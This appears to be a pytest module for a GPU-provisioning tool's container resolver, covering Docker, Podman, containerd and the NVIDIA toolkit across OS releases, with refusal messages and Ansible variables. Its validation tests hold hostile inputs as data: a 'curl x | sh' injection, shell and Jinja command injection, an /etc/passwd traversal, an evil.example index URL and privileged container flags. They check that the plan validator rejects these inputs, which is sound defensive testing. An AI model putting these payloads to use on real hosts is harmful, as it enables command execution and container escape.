"""software.containers (issue 51): the resolver's engine, CDI and toolkit choices per OS release, its refusals, the
plan's text and JSON, and the role variables. The choices run on a small fixture table of containers (the rest of the
stack from the live database), so a refresh of data/containers.yaml does not move these tests; tests/data checks the
live rows."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from provision.compat import Containers, load_db
from provision.errors import IncompatibleError
from provision.hostfacts import plan_digest, record_packages
from provision.models import Plan, Profile
from provision.plan_rules import problems
from provision.render.role_vars import ansible_vars
from provision.report import plan_json, plan_text
from provision.resolver import resolve

ROOT = Path(__file__).resolve().parents[2]
SRC = "https://example.org/fixture"
DAY = "2026-11-28"
TOOLKIT_FPR = "C95B321B61E88C1809C4F759DDCAE044F796ECB0"
DOCKER_FPR = "9DC858229FC7DD38854AE2D88D81803C0EBFCD88"


def _row(os_id, engine, version, packages, **extra):
    return {"os_id": os_id, "engine": engine, "packages": packages, "version": version,
            "package_version": f"{version}-1", "source": f"{SRC}/{os_id}/{engine}", "checked": DAY, **extra}


FIXTURE = {
    "engines": [
        _row("debian-12", "docker", "20.10.24", ["docker.io"]),
        _row("debian-12", "podman", "4.3.1", ["podman", "uidmap"]),
        _row("debian-12", "containerd", "1.6.20", ["containerd"]),
        _row("debian-13", "docker", "26.1.5", ["docker.io", "docker-cli"]),
        _row("debian-13", "podman", "5.4.2", ["podman", "uidmap", "passt"]),
        _row("debian-13", "containerd", "1.7.24", ["containerd"]),
        _row("ubuntu-22.04", "docker", "29.1.3", ["docker.io"], confidence="unverified"),
        _row("ubuntu-22.04", "podman", "3.4.4", ["podman", "uidmap"], confidence="unverified"),
        # "3.0" sorts after "25.0" as text: the resolver compares versions, not strings.
        _row("ubuntu-20.04", "docker", "24.0.5", ["docker.io"]),
        _row("ubuntu-24.04", "docker", "3.0", ["docker.io"]),
    ],
    "not_packaged": [{"engine": "podman", "os_ids": ["ubuntu-20.04"], "why": "Ubuntu packages podman from 20.10 on",
                      "source": SRC, "checked": DAY}],
    "cdi": [
        {"engine": "docker", "min_version": "25.0", "default_from": "28.2", "how": "features.cdi in daemon.json",
         "source": f"{SRC}/docker-cdi", "checked": DAY},
        {"engine": "podman", "min_version": "4.1", "how": "native", "source": f"{SRC}/podman-cdi", "checked": DAY},
        {"engine": "containerd", "min_version": "1.7", "how": "enable_cdi", "source": f"{SRC}/containerd-cdi",
         "checked": DAY},
    ],
    "docker_ce": {
        "url": "https://download.docker.com/linux/{distribution}",
        "key_url": "https://download.docker.com/linux/{distribution}/gpg", "key_fingerprint": DOCKER_FPR,
        "key_fingerprint_from": "the install page", "name": "docker-ce", "component": "stable",
        "packages": ["docker-ce", "docker-ce-cli", "containerd.io"],
        "os_ids": ["debian-12", "debian-13", "ubuntu-22.04"],
        "install_page": "https://docs.docker.com/engine/install/{distribution}/", "source": SRC, "checked": DAY,
    },
    "toolkit": {
        "version": "1.20.0", "package_version": "1.20.0-1", "packages": ["nvidia-container-toolkit-base"],
        "url": "https://nvidia.github.io/libnvidia-container/stable/deb/{arch}/",
        "arch_dirs": {"x86_64": "amd64", "aarch64": "arm64"},
        "key_url": "https://nvidia.github.io/libnvidia-container/gpgkey", "key_fingerprint": TOOLKIT_FPR,
        "key_fingerprint_from": "pinned by independent projects", "confidence": "corroborated",
        "name": "nvidia-container-toolkit", "package_files_from": SRC, "source": f"{SRC}/toolkit", "checked": DAY,
    },
    "jetpack": [{"jetpack": "6", "packages": ["nvidia-container"], "source": f"{SRC}/jetpack", "checked": DAY}],
    "facts": {
        "docker_group": {"text": "the docker group is root", "source": f"{SRC}/docker-group", "checked": DAY},
        "colab": {"text": "a Colab runtime has no Docker daemon", "source": f"{SRC}/colab", "checked": DAY},
        "jetson": {"text": "csv mode, --runtime nvidia", "source": f"{SRC}/jetson", "checked": DAY},
        "runtime_cdi_mode": {"text": "the runtime's cdi mode", "source": f"{SRC}/runtime-cdi", "checked": DAY},
    },
}
LIVE = load_db()
DB = LIVE.model_copy(update={"containers": Containers.model_validate(FIXTURE)})


def profile(os: str = "debian-13", containers: str = "docker", *, kind: str = "baremetal", user: str = "ml",
            arch: str = "x86_64", gpu: str = "GeForce GTX 1070", jetpack: str | None = None) -> Profile:
    dist, rel = os.split("-")
    target = {"kind": kind, "os": {"distribution": dist, "release": rel}, "arch": arch}
    if jetpack:
        target["jetpack"] = jetpack
    return Profile.model_validate({
        "name": "t",
        "hardware": {"gpu": {"model": gpu}, "cpu": {"model": "CPU", "flags": ["sse4_2", "avx", "avx2"]},
                     "memory_gb": 16},
        "target": target,
        "software": {"user": user, "containers": containers, "jupyter": {"enabled": False}},
    })


def refusal(prof: Profile) -> IncompatibleError:
    with pytest.raises(IncompatibleError) as exc:
        resolve(prof, DB)
    return exc.value


def reasons(plan: Plan, component: str) -> list[str]:
    return [f"{r.choice} | {r.why} | {r.source}" for r in plan.reasons if r.component == component]


# --- no containers: the plan is what it was -----------------------------------------------------------------------


def test_containers_none_plans_exactly_as_before():
    plan = resolve(profile(containers="none"), DB)
    assert plan.containers is None
    assert not [r for r in plan.reasons if r.component in ("containers", "container-toolkit")]
    assert "containers" not in plan_json(plan) and "containers" not in plan.model_dump()
    assert not [k for k in ansible_vars(plan) if k.startswith(("container_engine", "nvidia_container_toolkit"))]
    assert not [line for line in plan_text(plan, explain=True) if "container" in line]
    # The default is none: the same plan, the same digest.
    unset = Profile.model_validate({**profile(containers="none").model_dump(), "software": {"jupyter": {"enabled": False}}})
    assert resolve(unset, DB) == plan and plan_digest(resolve(unset, DB)) == plan_digest(plan)


@pytest.mark.parametrize("golden", sorted((ROOT / "tests" / "golden" / "plans").glob("*.json")), ids=lambda p: p.stem)
def test_a_plan_saved_before_containers_loads_and_dumps_byte_identical(golden):
    text = golden.read_text()
    plan = Plan.model_validate(json.loads(text))
    assert plan.containers is None
    assert json.dumps(plan_json(plan), indent=2) + "\n" == text


# --- Docker ----------------------------------------------------------------------------------------------------------


def test_debian_12_docker_io_20_10_has_no_cdi_and_gets_the_nvidia_runtime_in_cdi_mode():
    plan = resolve(profile("debian-12", "docker"), DB)
    c = plan.containers
    assert c is not None
    assert (c.engine, c.engine_source, c.engine_packages, c.engine_version) == ("docker", "distribution",
                                                                                ("docker.io",), "20.10.24")
    assert c.cdi is False and c.engine_repo is None
    assert c.gpu_run_args == ("--runtime", "nvidia", "-e", "NVIDIA_VISIBLE_DEVICES=nvidia.com/gpu=all")
    assert (c.toolkit.runtime_configure, c.toolkit.runtime_mode, c.toolkit.mode) == ("docker", "cdi", "cdi")
    why = " ".join(reasons(plan, "containers"))
    assert "predates Docker 25.0" in why and "software.containers docker-ce would give native CDI" in why
    assert f"{SRC}/runtime-cdi" in why


def test_debian_13_docker_io_26_1_5_requests_the_gpu_by_cdi_name():
    plan = resolve(profile("debian-13", "docker"), DB)
    c = plan.containers
    assert c is not None
    assert (c.engine_packages, c.engine_version, c.cdi) == (("docker.io", "docker-cli"), "26.1.5", True)
    assert c.gpu_run_args == ("--device", "nvidia.com/gpu=all")
    # Native CDI: daemon.json gets features.cdi (container_engine_cdi), no nvidia runtime.
    assert (c.toolkit.runtime_configure, c.toolkit.runtime_mode) == ("none", None)
    assert any("Docker >= 25.0 with features.cdi in daemon.json; on by default from 28.2" in r
               for r in reasons(plan, "containers"))


def test_versions_are_compared_as_versions_not_strings():
    c = resolve(profile("ubuntu-24.04", "docker"), DB).containers
    assert c is not None and c.cdi is False and c.toolkit.runtime_mode == "cdi"


@pytest.mark.parametrize("os", ["debian-12", "debian-13"])
def test_docker_ce_comes_from_dockers_repository_with_its_key_checked_by_fingerprint(os):
    plan = resolve(profile(os, "docker-ce"), DB)
    c = plan.containers
    assert c is not None and c.engine_repo is not None
    assert (c.engine, c.engine_source, c.engine_version) == ("docker", "docker-ce", None)
    assert c.engine_packages == ("docker-ce", "docker-ce-cli", "containerd.io")
    assert c.engine_repo.url == "https://download.docker.com/linux/debian"
    assert c.engine_repo.key_url == "https://download.docker.com/linux/debian/gpg"
    assert c.engine_repo.key_fingerprint == DOCKER_FPR and c.engine_repo.name == "docker-ce"
    assert c.cdi is True and c.gpu_run_args == ("--device", "nvidia.com/gpu=all")
    assert any(DOCKER_FPR in r and "https://docs.docker.com/engine/install/debian/" in r
               for r in reasons(plan, "containers"))


@pytest.mark.parametrize("engine", ["docker", "docker-ce"])
def test_docker_leaves_the_notebook_account_out_of_the_docker_group_and_says_so(engine):
    plan = resolve(profile("debian-13", engine), DB)
    group = [r for r in plan.reasons if r.component == "containers" and "docker group" in r.choice]
    assert len(group) == 1 and group[0].choice == "the notebook account is not put in the docker group"
    assert "the docker group is root" in group[0].why and group[0].source == f"{SRC}/docker-group"
    assert any("not in the docker group" in w for w in plan.warnings)


def test_an_unverified_engine_row_is_a_warning():
    plan = resolve(profile("ubuntu-22.04", "docker"), DB)
    assert any("ubuntu-22.04 docker row" in w and "unverified" in w for w in plan.warnings)
    assert not any("row" in w for w in resolve(profile("debian-13", "docker"), DB).warnings)


# --- Podman and containerd -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("os", "version"), [("debian-12", "4.3.1"), ("debian-13", "5.4.2")])
def test_podman_runs_rootless_for_the_plans_user_with_cdi(os, version):
    plan = resolve(profile(os, "podman", user="alice"), DB)
    c = plan.containers
    assert c is not None
    assert (c.engine, c.engine_version, c.rootless_user, c.cdi) == ("podman", version, "alice", True)
    assert c.gpu_run_args == ("--device", "nvidia.com/gpu=all") and c.toolkit.runtime_configure == "none"
    assert any(r.choice.startswith(f"rootless podman {version} for alice") and r.source == f"{SRC}/podman-cdi"
               for r in plan.reasons)
    # No docker socket, no group: nothing to warn about.
    assert not any("docker group" in w for w in plan.warnings)


@pytest.mark.parametrize(("os", "cdi"), [("debian-12", False), ("debian-13", True)])
def test_containerd_gets_the_nvidia_runtime_handler_in_cdi_mode_and_native_cdi_from_1_7(os, cdi):
    c = resolve(profile(os, "containerd"), DB).containers
    assert c is not None
    assert (c.engine, c.cdi, c.gpu_run_args) == ("containerd", cdi, ())
    assert (c.toolkit.runtime_configure, c.toolkit.runtime_mode) == ("containerd", "cdi")
    # The toolkit role turns on the CRI plugin's enable_cdi only where the plan says containerd has CDI (1.7 on).
    assert ansible_vars(resolve(profile(os, "containerd"), DB))["nvidia_container_toolkit_containerd_cdi"] is cdi


# --- the toolkit -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("engine", ["docker", "docker-ce", "podman", "containerd"])
def test_the_toolkit_is_the_base_package_pinned_from_nvidias_repository(engine):
    plan = resolve(profile("debian-13", engine), DB)
    t = plan.containers.toolkit if plan.containers else None
    assert t is not None and t.repo is not None
    assert (t.version, t.source, t.mode) == ("1.20.0", "nvidia-repo", "cdi")
    assert t.packages == ("nvidia-container-toolkit-base=1.20.0-1",)
    assert t.repo.url == "https://nvidia.github.io/libnvidia-container/stable/deb/amd64/"
    assert t.repo.key_fingerprint == TOOLKIT_FPR and t.repo.name == "nvidia-container-toolkit"
    (why,) = reasons(plan, "container-toolkit")
    assert "no legacy hook" in why and TOOLKIT_FPR in why and "pinned by independent projects" in why
    assert why.endswith(f"{SRC}/toolkit")


def test_the_toolkit_repository_follows_the_targets_architecture():
    plan = resolve(Profile.model_validate({
        **profile("ubuntu-22.04", "docker", gpu="GH200", arch="aarch64").model_dump(),
        "hardware": {"gpu": {"model": "GH200"}, "cpu": {"model": "Grace", "flags": ["fp", "asimd"]}, "memory_gb": 480},
    }), DB)
    assert plan.containers is not None and plan.containers.toolkit.repo is not None
    assert plan.containers.toolkit.repo.url.endswith("/stable/deb/arm64/")


# --- Jetson ----------------------------------------------------------------------------------------------------------


def test_jetson_takes_jetpacks_toolkit_in_csv_mode_with_the_nvidia_runtime():
    plan = resolve(profile("ubuntu-22.04", "docker", kind="jetson", arch="aarch64", gpu="Jetson Orin Nano 8GB",
                           jetpack="6.2"), DB)
    c = plan.containers
    assert c is not None
    assert (c.engine, c.engine_packages, c.cdi, c.gpu_run_args) == ("docker", ("docker.io",), False,
                                                                    ("--runtime", "nvidia"))
    t = c.toolkit
    assert (t.source, t.mode, t.version, t.repo, t.packages) == ("jetpack", "csv", None, None, ("nvidia-container",))
    assert (t.runtime_configure, t.runtime_mode) == ("docker", None)
    assert any("JetPack 6.2's toolkit" in r for r in reasons(plan, "container-toolkit"))


# --- refusals: one line each -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(("prof", "line"), [
    (profile("ubuntu-22.04", "docker", kind="colab", gpu="T4"),
     "t: software.containers docker on Colab: a Colab runtime has no Docker daemon; what would work: remove "
     "software.containers, a baremetal or cloud target for GPU containers"),
    (profile("ubuntu-20.04", "podman"),
     "t: software.containers podman: ubuntu-20.04 does not package podman (Ubuntu packages podman from 20.10 on); "
     "what would work: containers: docker"),
    (profile("ubuntu-24.04", "podman"),
     "t: software.containers podman: ubuntu-24.04 does not package podman; what would work: containers: docker"),
    (profile("ubuntu-22.04", "podman"),
     "t: software.containers podman: podman 3.4.4 on ubuntu-22.04 cannot request devices by CDI name (podman reads "
     "CDI specs from 4.1), and rootless GPU containers need CDI; what would work: containers: docker, an OS release "
     "with podman >= 4.1 (debian-12, debian-13)"),
    (profile("ubuntu-20.04", "docker-ce"),
     "t: software.containers docker-ce: Docker's repository does not publish for ubuntu-20.04 (it does for "
     "debian-12, debian-13, ubuntu-22.04); what would work: containers: docker (ubuntu-20.04's docker.io 24.0.5), an OS "
     "release Docker's repository publishes for"),
    (profile("ubuntu-22.04", "podman", kind="jetson", arch="aarch64", gpu="Jetson Orin Nano 8GB", jetpack="6.2"),
     "t: software.containers podman on a Jetson: JetPack's toolkit gives containers the GPU through Docker's "
     "--runtime nvidia only (its csv mode; --gpus is refused there); what would work: containers: docker"),
], ids=["colab", "not-packaged", "no-row", "podman-without-cdi", "docker-ce-unpublished", "jetson-podman"])
def test_refusals_are_one_line_that_names_the_way_out(prof, line):
    err = refusal(prof)
    assert err.lines() == [line]
    assert err.exit_code == 2


# --- what the plan carries and renders --------------------------------------------------------------------------------


def test_the_plan_text_shows_the_runtime_and_the_toolkit_version():
    lines = plan_text(resolve(profile("debian-13", "podman"), DB))
    assert ("  containers podman 5.4.2 rootless for ml (podman uidmap passt from debian-13), CDI: podman run --device "
            "nvidia.com/gpu=all; toolkit 1.20.0 (nvidia-container-toolkit-base=1.20.0-1)") in lines
    lines = plan_text(resolve(profile("debian-12", "docker"), DB))
    assert any(line.startswith("  containers docker 20.10.24 (docker.io from debian-12), the nvidia runtime in cdi "
                               "mode: docker run --runtime nvidia -e NVIDIA_VISIBLE_DEVICES=nvidia.com/gpu=all; "
                               "toolkit 1.20.0") for line in lines)


INTERFACE_VARS = {
    "container_engine_enabled", "container_engine_name", "container_engine_source", "container_engine_packages",
    "container_engine_version", "container_engine_repo_url", "container_engine_repo_key_url",
    "container_engine_repo_key_fingerprint", "container_engine_repo_name", "container_engine_cdi",
    "container_engine_rootless_user",
    "nvidia_container_toolkit_enabled", "nvidia_container_toolkit_version", "nvidia_container_toolkit_source",
    "nvidia_container_toolkit_packages", "nvidia_container_toolkit_repo_url", "nvidia_container_toolkit_repo_key_url",
    "nvidia_container_toolkit_repo_key_fingerprint", "nvidia_container_toolkit_repo_name",
    "nvidia_container_toolkit_mode", "nvidia_container_toolkit_runtime_configure",
    "nvidia_container_toolkit_runtime_mode", "nvidia_container_toolkit_containerd_cdi",
}


def test_role_variables_are_the_interfaces_and_only_where_containers_are_planned():
    none = ansible_vars(resolve(profile("debian-12", "none"), DB))
    v = ansible_vars(resolve(profile("debian-12", "docker-ce"), DB))
    # The roles' inputs, and the preflight's checks of the engine (refused before the first change on any host).
    assert set(v) - set(none) == INTERFACE_VARS | {"preflight_container_engine", "preflight_container_daemon_values",
                                                   "preflight_container_rootless_user"}
    assert (v["preflight_container_engine"], v["preflight_container_daemon_values"],
            v["preflight_container_rootless_user"]) == ("docker", {"features": {"cdi": True}}, "")
    assert {k: v[k] for k in INTERFACE_VARS if k.startswith("container_engine")} == {
        "container_engine_enabled": True, "container_engine_name": "docker", "container_engine_source": "docker-ce",
        "container_engine_packages": ["docker-ce", "docker-ce-cli", "containerd.io"], "container_engine_version": "",
        "container_engine_repo_url": "https://download.docker.com/linux/debian",
        "container_engine_repo_key_url": "https://download.docker.com/linux/debian/gpg",
        "container_engine_repo_key_fingerprint": DOCKER_FPR, "container_engine_repo_name": "docker-ce",
        "container_engine_cdi": True, "container_engine_rootless_user": "",
    }
    assert {k: v[k] for k in INTERFACE_VARS if k.startswith("nvidia_container_toolkit")} == {
        "nvidia_container_toolkit_enabled": True, "nvidia_container_toolkit_version": "1.20.0",
        "nvidia_container_toolkit_source": "nvidia-repo",
        "nvidia_container_toolkit_packages": ["nvidia-container-toolkit-base=1.20.0-1"],
        "nvidia_container_toolkit_repo_url": "https://nvidia.github.io/libnvidia-container/stable/deb/amd64/",
        "nvidia_container_toolkit_repo_key_url": "https://nvidia.github.io/libnvidia-container/gpgkey",
        "nvidia_container_toolkit_repo_key_fingerprint": TOOLKIT_FPR,
        "nvidia_container_toolkit_repo_name": "nvidia-container-toolkit", "nvidia_container_toolkit_mode": "cdi",
        "nvidia_container_toolkit_runtime_configure": "none", "nvidia_container_toolkit_runtime_mode": "",
        "nvidia_container_toolkit_containerd_cdi": False,
    }
    # The fast re-apply's key covers them: a plan with containers is another host state than one without.
    assert v["preflight_fingerprint"]["key"]["vars"] != none["preflight_fingerprint"]["key"]["vars"]
    podman = ansible_vars(resolve(profile("debian-13", "podman"), DB))
    assert podman["container_engine_rootless_user"] == "ml" and podman["container_engine_repo_url"] == ""
    assert (podman["preflight_container_engine"], podman["preflight_container_daemon_values"],
            podman["preflight_container_rootless_user"]) == ("podman", {}, "ml")


def test_the_ledger_owns_the_engine_and_the_toolkit_so_dropping_containers_removes_them():
    with_containers = record_packages(resolve(profile("debian-13", "docker"), DB))
    without = record_packages(resolve(profile("debian-13", "none"), DB))
    assert set(with_containers) - set(without) == {"docker.io", "docker-cli", "nvidia-container-toolkit-base"}


def test_a_saved_plan_with_containers_round_trips_and_its_values_are_held_to_their_rules():
    plan = resolve(profile("debian-12", "docker-ce"), DB)
    data = plan_json(plan)
    assert Plan.model_validate(data) == plan and problems(plan.model_dump()) == []
    data["containers"]["gpu_run_args"] = ["--device", "nvidia.com/gpu=all; curl x | sh"]
    data["containers"]["engine_repo"]["key_fingerprint"] = "0EBFCD88"
    data["containers"]["rootless_user"] = "root"
    found = {".".join(str(p) for p in path) for path, _ in problems(data)}
    assert found == {"containers.gpu_run_args.1", "containers.engine_repo.key_fingerprint", "containers.rootless_user"}


def _strings(node, path=()):
    if isinstance(node, dict):
        for key, value in node.items():
            yield from _strings(value, (*path, key))
    elif isinstance(node, list):
        for i, value in enumerate(node):
            yield from _strings(value, (*path, i))
    elif isinstance(node, str):
        yield path


def _put(doc, path, value):
    doc = json.loads(json.dumps(doc))
    node = doc
    for part in path[:-1]:
        node = node[part]
    node[path[-1]] = value
    return doc


CONTAINER_PLANS = {name: plan_json(resolve(profile(os, engine), DB)) for name, os, engine in (
    ("docker-ce", "debian-12", "docker-ce"), ("docker-runtime", "debian-12", "docker"), ("podman", "debian-13", "podman"))}
HOSTILE = ["{{ lookup('pipe', 'id') }}", "$(touch /tmp/x)", "`id`", "x; id", "x && id #", "../../../../etc/passwd",
           "x\nRUN id", "x' --index-url http://evil.example/ '", "--privileged", "-v", "/:/host", "--cap-add=ALL",
           "--security-opt=seccomp=unconfined", "a" * 5000]


@pytest.mark.parametrize("name", sorted(CONTAINER_PLANS))
def test_every_containers_value_of_a_saved_plan_is_held_to_its_rule(name):
    """A crafted plan.json (what `provision build`/`apply` read back) with a payload in any containers field is
    refused, field by field, as the rest of the plan is (tests/unit/test_hostile_profiles.py)."""
    data = CONTAINER_PLANS[name]
    fields = [f for f in _strings(data) if f[0] == "containers"]
    assert len(fields) >= 10
    for field in fields:
        for payload in HOSTILE:
            found = problems(_put(data, field, payload))
            assert [path for path, _ in found] == [field], (field, payload)


# --- the command line ------------------------------------------------------------------------------------------------


def run(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "provision", *args], capture_output=True, text=True, cwd=ROOT)


def _profile_file(tmp_path: Path, name: str, containers: str) -> Path:
    data = yaml.safe_load((ROOT / "profiles" / f"{name}.yaml").read_text())
    data.setdefault("software", {})["containers"] = containers
    path = tmp_path / f"{name}-{containers}.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    return path


def test_plan_explain_gives_the_containers_reasons_with_their_sources(tmp_path):
    proc = run("plan", str(_profile_file(tmp_path, "deskmini", "docker")), "--os", "debian-13", "--explain")
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout
    assert "  containers docker 26.1.5 (docker.io docker-cli apparmor from debian-13), CDI: docker run --device" in out
    assert "toolkit 1.20.0 (nvidia-container-toolkit-base=1.20.0-1)" in out
    assert "  [containers] docker 26.1.5 from debian-13" in out
    assert "      source: https://packages.debian.org/trixie/docker.io" in out
    assert "  [container-toolkit] NVIDIA Container Toolkit 1.20.0" in out
    assert "      source: https://docs.nvidia.com/datacenter/cloud-native/container-toolkit/latest/install-guide.html" in out
    assert "  [containers] the notebook account is not put in the docker group" in out
    assert "      source: https://docs.docker.com/engine/install/linux-postinstall/" in out
    # apparmor with Docker, and why: without apparmor_parser Docker < 23 starts no container, Docker >= 23 confines none.
    assert "  [containers] apparmor beside Docker" in out
    assert "      source: https://github.com/moby/moby/pull/44902" in out


@pytest.mark.parametrize(("name", "containers", "os", "line"), [
    ("colab", "docker", None,
     "error: colab: software.containers docker on Colab: a Colab runtime is itself a container: it has no Docker "
     "daemon, and no container engine is installed in it; what would work: remove software.containers, a baremetal or "
     "cloud target for GPU containers"),
    ("deskmini", "podman", "ubuntu-20.04",
     "error: deskmini: software.containers podman: ubuntu-20.04 does not package podman (Ubuntu packages podman from "
     "20.10 on); what would work: containers: docker, containers: containerd"),
    ("jetson-orin-nano", "containerd", None,
     "error: jetson-orin-nano: software.containers containerd on a Jetson: JetPack's toolkit gives containers the GPU "
     "through Docker's --runtime nvidia only (its csv mode; --gpus is refused there); what would work: containers: "
     "docker"),
])
def test_a_refused_containers_request_exits_2_with_one_line(tmp_path, name, containers, os, line):
    proc = run("plan", str(_profile_file(tmp_path, name, containers)), *(["--os", os] if os else []))
    assert proc.returncode == 2 and proc.stdout == ""
    assert proc.stderr.strip().splitlines() == [line]


def test_an_unknown_engine_is_a_profile_error_on_its_line(tmp_path):
    path = _profile_file(tmp_path, "deskmini", "lxc")
    proc = run("plan", str(path))
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    (line,) = proc.stderr.strip().splitlines()
    lineno = next(i for i, text in enumerate(path.read_text().splitlines(), 1) if "containers:" in text)
    assert line.startswith(f"error: {path}:{lineno}:") and "software.containers" in line and "'docker'" in line


@pytest.mark.parametrize(("os_name", "engine"), [("debian-13", "docker"), ("debian-12", "docker-ce"),
                                                 ("debian-13", "podman"), ("debian-13", "containerd")])
def test_the_preflight_checks_the_keys_container_engine_merges(os_name, engine):
    """preflight_container_daemon_values is what roles/container_engine merges (its __container_engine_daemon_values,
    rendered here with Jinja from the same plan's inputs): the preflight refuses exactly the conflicts the role would."""
    import jinja2

    v = ansible_vars(resolve(profile(os_name, engine), DB))
    expr = yaml.safe_load((ROOT / "roles/container_engine/vars/main.yml").read_text())["__container_engine_daemon_values"]
    inner = expr.strip()
    assert inner.startswith("{{") and inner.endswith("}}"), inner
    role = jinja2.Environment().compile_expression(inner[2:-2].strip())(**v)
    assert role == v["preflight_container_daemon_values"]
    assert v["preflight_container_engine"] == v["container_engine_name"]
    assert v["preflight_container_rootless_user"] == v["container_engine_rootless_user"]


def test_every_docker_plan_that_installs_apparmor_says_why():
    """apparmor comes with Docker's packages on every route (the distribution's, docker-ce, a Jetson's): each plan that
    installs it gives the reason with its source (data/containers.yaml facts.apparmor)."""
    for p in (profile("debian-12", "docker"), profile("debian-13", "docker-ce"),
              profile("ubuntu-22.04", "docker", kind="jetson", arch="aarch64", gpu="Jetson Orin Nano 8GB",
                      jetpack="6.2")):
        plan = resolve(p, LIVE)  # the live data/containers.yaml, not this module's fixture table
        assert plan.containers is not None and "apparmor" in plan.containers.engine_packages, p.target
        said = [r for r in plan.reasons if r.choice == "apparmor beside Docker"]
        assert len(said) == 1 and said[0].source == "https://github.com/moby/moby/pull/44902", p.target
